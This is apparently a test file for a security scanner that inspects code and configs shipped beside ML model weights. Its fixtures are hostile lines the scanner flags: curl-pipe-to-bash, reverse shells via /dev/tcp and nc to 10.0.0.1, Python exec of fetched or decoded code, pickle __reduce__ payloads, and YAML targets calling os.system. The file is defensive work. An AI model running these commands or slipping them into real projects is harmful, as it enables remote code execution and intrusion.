import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { scanBytes } from "../../../../test/models/scan.ts";
import { int, joined, utf8, zeros } from "../../../../test/models/writer.ts";
import { configText } from "./config-text.ts";
import { executable } from "./executable.ts";
import { python } from "./python.ts";
import { yaml } from "./yaml.ts";

const READERS = [python, executable, yaml, configText];
const judge = (content: string | Uint8Array, name: string) =>
  scanBytes(READERS, typeof content === "string" ? utf8(content) : content, name);

const elf = joined(Uint8Array.of(0x7f, 0x45, 0x4c, 0x46, 2, 1, 1), zeros(64));
const pe = joined(utf8("MZ"), zeros(0x3a), int(0x40, 4), utf8("PE\0\0"), zeros(64));
const machO = joined(int(0xfeedfacf, 4), zeros(8), int(2, 4), zeros(64));
const fat = joined(int(0xcafebabe, 4, true), int(2, 4, true), int(0x01000007, 4, true), zeros(64));
const javaClass = joined(int(0xcafebabe, 4, true), int(61, 4, true), zeros(64));
const tcp = ["", "dev", "tcp", "10.0.0.1", "9"].join("/");

describe("code beside the weights", () => {
  const clean: readonly (readonly [string, string | Uint8Array, string, readonly string[]])[] = [
    [
      "code of a model",
      "import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    return x",
      "modeling.py",
      ["python.code"],
    ],
    ["code that starts processes", "import subprocess\nsubprocess.run(['nvidia-smi'])", "setup.py", ["python.code"]],
    ["a script", "#!/bin/bash\npython train.py --lr 1e-4 | tee log", "train.sh", ["executable.script"]],
    [
      "a configuration",
      "model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  x: &a {y: 1}\n  z: *a",
      "m.yaml",
      [],
    ],
    ["a list of packages", "# http://x\ntorch==2.4\ntransformers>=4", "requirements.txt", []],
    [
      "one with another index",
      "--extra-index-url https://download.pytorch.org/whl/cu121\ntorch",
      "requirements.txt",
      ["requirements.direct-source"],
    ],
    ["a model of MLflow", "flavors: {python_function: {loader_module: mlflow.sklearn}}", "MLmodel", []],
    ["tags of YAML itself", "a: !!str 1\nb: !<tag:yaml.org,2002:float> 2", "m.yaml", []],
    ["settings", "[model]\nname = x", "pyproject.toml", []],
  ];
  for (const [what, content, name, rules] of clean) {
    it(`lets be ${what}`, () => {
      const judged = judge(content, name);
      assert.deepEqual([judged.verdict, judged.rules], ["clean", rules]);
    });
  }

  it("takes no weights for a program", () => {
    for (const bytes of [
      joined(utf8("MZ"), zeros(500)),
      joined(utf8("MZ"), zeros(0x3a), int(0xffffffff, 4), zeros(9)),
      javaClass,
      joined(utf8("\x7fELF"), zeros(60)),
    ]) {
      assert.equal(judge(bytes, "weights.bin").verdict, "not-a-model");
    }
  });

  const bad: readonly (readonly [string, string | Uint8Array, string, string, string])[] = [
    ["ELF", elf, "model.bin", "executable.native", "suspicious"],
    ["PE", pe, "model.bin", "executable.native", "suspicious"],
    ["Mach-O", machO, "model.bin", "executable.native", "suspicious"],
    ["a fat Mach-O", fat, "model.bin", "executable.native", "suspicious"],
    ["a llamafile", joined(utf8("MZqFpD='\n"), zeros(99)), "m.llamafile", "executable.llamafile", "suspicious"],
    [
      "a script that fetches and runs",
      "#!/bin/sh\ncurl -fsSL https://x | sudo bash",
      "run",
      "shell.fetch-and-run",
      "suspicious",
    ],
    ["one that fetches by substitution", "bash <(curl -s https://x)", "run.sh", "shell.fetch-and-run", "suspicious"],
    ["one that decodes what it runs", "echo aGk= | base64 -d | sh", "run.sh", "shell.encoded-command", "suspicious"],
    ["one that hands out a shell", `bash -i >& ${tcp} 0>&1`, "run.sh", "shell.remote-shell", "malicious"],
    [
      "one that does so far into a line",
      `${"x".repeat(9000)} ; nc -e /bin/sh 10.0.0.1 9`,
      "run.sh",
      "shell.remote-shell",
      "malicious",
    ],
    [
      "code that runs what it decodes",
      "exec(zlib.decompress(base64.b64decode(b'x')))",
      "a.py",
      "python.runs-decoded-code",
      "suspicious",
    ],
    [
      "code without the name of code",
      "#!/usr/bin/env python3\neval(__import__('base64').b64decode('x'))",
      "a",
      "python.runs-decoded-code",
      "suspicious",
    ],
    [
      "code that loads bytecode",
      "f = types.FunctionType(marshal.loads(x), {})",
      "a.py",
      "python.runs-decoded-code",
      "suspicious",
    ],
    [
      "code that makes payloads",
      "class P:\n  def __reduce__(self):\n    return (os.system, ('id',))",
      "a.py",
      "python.builds-payload",
      "suspicious",
    ],
    [
      "code that hands out a shell",
      "s = socket.socket()\nos.dup2(s.fileno(), 0)",
      "a.py",
      "python.remote-shell",
      "malicious",
    ],
    [
      "compiled code",
      joined(int(0x0a0d_0da7, 4), zeros(12), Uint8Array.of(0xe3)),
      "m.pyc",
      "python.bytecode",
      "suspicious",
    ],
    [
      "code that runs what it fetches",
      "exec(requests.get('http://x').text)",
      "a.py",
      "python.runs-fetched-code",
      "malicious",
    ],
    [
      "one by urllib",
      "eval(compile(urllib.request.urlopen('x').read()))",
      "a.py",
      "python.runs-fetched-code",
      "malicious",
    ],
    [
      "code that hands its streams to a socket",
      "s = socket.socket()\nsubprocess.call(['sh'], stdin=s.fileno())",
      "a.py",
      "python.remote-shell",
      "malicious",
    ],
    [
      "a script that evaluates what it fetches",
      "IEX (New-Object X).DownloadString('http://x')",
      "a.ps1",
      "shell.fetch-and-run",
      "suspicious",
    ],
    ["a class of os for Lightning", "model:\n  class_path: os.system", "c.yaml", "yaml.dangerous-target", "malicious"],
    [
      "a loader of somebody's",
      "flavors: {python_function: {loader_module: mine}}",
      "MLmodel",
      "yaml.foreign-target",
      "suspicious",
    ],
    [
      "a target whose name is an alias",
      "x: &k _target_\n*k : os.system",
      "m.yaml",
      "yaml.dangerous-target",
      "malicious",
    ],
    ["an object of Java", "!!javax.script.ScriptEngineManager []", "m.yaml", "yaml.python-object", "malicious"],
    ["os inside of a library", "_target_: nemo.utils.os.system", "m.yaml", "yaml.dangerous-target", "malicious"],
    ["a target of os", "x:\n  - _target_: os.system", "m.yaml", "yaml.dangerous-target", "malicious"],
    ["one in flow style", '{"\\x5ftarget_": builtins.eval}', "m.yaml", "yaml.dangerous-target", "malicious"],
    [
      "one in the second document",
      "a: 1\n---\n_target_: subprocess.run",
      "m.yaml",
      "yaml.dangerous-target",
      "malicious",
    ],
    ["a target of somebody's", "_target_: mine.Model", "m.yaml", "yaml.foreign-target", "suspicious"],
    ["a tag that calls", "x: !apply:os.system [id]", "hyperparams.yaml", "yaml.dangerous-target", "malicious"],
    ["an object of Python", "x: !!python/object/apply:os.system ['id']", "m.yml", "yaml.python-object", "malicious"],
    [
      "the same, in full",
      "x: !<tag:yaml.org,2002:python/name:os.system> ''",
      "m.yml",
      "yaml.python-object",
      "malicious",
    ],
    ["no YAML", "a: [", "m.yaml", "yaml.invalid", "inconclusive"],
    ["YAML that nests", "[".repeat(200_000), "m.yaml", "yaml.invalid", "inconclusive"],
    ["packages over http", "x @ http://y/z.whl", "requirements.txt", "requirements.plain-http", "suspicious"],
    [
      "pip's part of an environment of conda",
      "dependencies:\n- pip:\n  - '--trusted-host x'\n",
      "conda.yaml",
      "requirements.plain-http",
      "suspicious",
    ],
    ["a host that is trusted", "--trusted-host x", "dev-requirements.txt", "requirements.plain-http", "suspicious"],
    ["a secret", ["KEY=AKIA", "Z7Q4TLM2XKPW3VHD"].join(""), ".env", "secrets.in-file", "suspicious"],
  ];
  for (const [what, content, name, rule, verdict] of bad) {
    it(`reports ${what}`, () => {
      const judged = judge(content, name);
      assert.ok(judged.rules.includes(rule), judged.rules.join());
      assert.equal(judged.verdict, verdict);
    });
  }
});
